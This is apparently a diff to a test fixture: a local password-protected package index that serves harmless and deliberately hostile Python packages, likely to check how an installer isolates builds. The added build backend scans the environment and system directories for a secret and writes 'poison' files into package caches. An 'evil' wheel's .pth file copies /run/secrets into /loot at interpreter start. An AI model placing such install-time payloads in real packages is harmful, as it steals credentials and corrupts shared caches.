@@ -1,5 +1,5 @@
 """A package index that asks for a password. It serves a harmless and a hostile wheel, and a package that has to be built, whose
-code leaves a mark in the file of the second argument. Prints its port."""
+code leaves a mark in the file of the second argument: one writes down what it needs, the other one does not. Prints its port."""
 
 import base64
 import hashlib
@@ -31,23 +31,41 @@ def wheel(name, files):
     return content.getvalue()
 
 
-# Its own build backend: nothing else is needed to build it.
+# Its own build backend: nothing else is needed to build it. The module says what its build saw.
 BACKEND = f"""
 import os, zipfile
 try:
     open({MARK!r}, "a").write("built\\n")
 except OSError:
     pass
-INFO = "oldtool-1.0.dist-info"
+NAME = open("PKG-INFO").read().split("Name: ")[1].split()[0]
+INFO = NAME + "-1.0.dist-info"
+
+def seen():
+    found = ["environment"] if {PASSWORD!r} in repr(os.environ) else []
+    for place in ["/run", "/var/cache", "/var/tmp", "/tmp", "/etc", "/root", "/opt"]:
+        for directory, _, names in os.walk(place):
+            for path in (os.path.join(directory, name) for name in names if not name.startswith("backend")):
+                try:
+                    found += [path] if {PASSWORD!r}.encode() in open(path, "rb").read(100000) else []
+                except OSError:
+                    pass
+    for cache in ["/var/cache/envctl-uv", "/var/cache/apt"]:
+        try:
+            open(cache + "/poison", "w").write("poison")
+        except OSError:
+            pass
+    return found
+
 FILES = {{
-    "oldtool.py": "value = 1\\n",
-    INFO + "/METADATA": "Metadata-Version: 2.1\\nName: oldtool\\nVersion: 1.0\\n",
+    NAME + ".py": f"value = 1\\nseen = {{seen()!r}}\\nuid = {{os.getuid()}}\\n",
+    INFO + "/METADATA": f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: 1.0\\n",
     INFO + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
 }}
 FILES[INFO + "/RECORD"] = "".join(path + ",,\\n" for path in [*FILES, INFO + "/RECORD"])
 
 def build_wheel(directory, config_settings=None, metadata_directory=None):
-    name = "oldtool-1.0-py3-none-any.whl"
+    name = NAME + "-1.0-py3-none-any.whl"
     with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
         for path, text in FILES.items():
             wheel.writestr(path, text)
@@ -58,16 +76,16 @@ def build_sdist(directory, config_settings=None):
 """
 
 
-def sdist():
+def sdist(name, version):
     files = {
-        "PKG-INFO": "Metadata-Version: 2.1\nName: oldtool\nVersion: 1.0\n",
+        "PKG-INFO": f"Metadata-Version: {version}\nName: {name}\nVersion: 1.0\n",
         "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
         "backend.py": BACKEND,
     }
     content = io.BytesIO()
     with tarfile.open(fileobj=content, mode="w:gz") as archive:
         for path, text in files.items():
-            entry = tarfile.TarInfo(f"oldtool-1.0/{path}")
+            entry = tarfile.TarInfo(f"{name}-1.0/{path}")
             entry.size = len(text.encode())
             archive.addfile(entry, io.BytesIO(text.encode()))
     return content.getvalue()
@@ -75,7 +93,8 @@ def sdist():
 
 TOOLS = ["find", "grep", "sed", "xargs", "chmod", "sh"]
 PACKAGES = {
-    "oldtool": ("oldtool-1.0.tar.gz", sdist()),
+    "oldtool": ("oldtool-1.0.tar.gz", sdist("oldtool", "2.1")),
+    "statictool": ("statictool-1.0.tar.gz", sdist("statictool", "2.2")),
     "labtool": ("labtool-1.0-py3-none-any.whl", wheel("labtool", {})),
     "evil": ("evil-1.0-py3-none-any.whl", wheel("evil", {
         "evil.pth": "import os; os.system('/bin/sh -c \"mkdir -p /loot; cat /run/secrets/* > /loot/pth\"')\n",
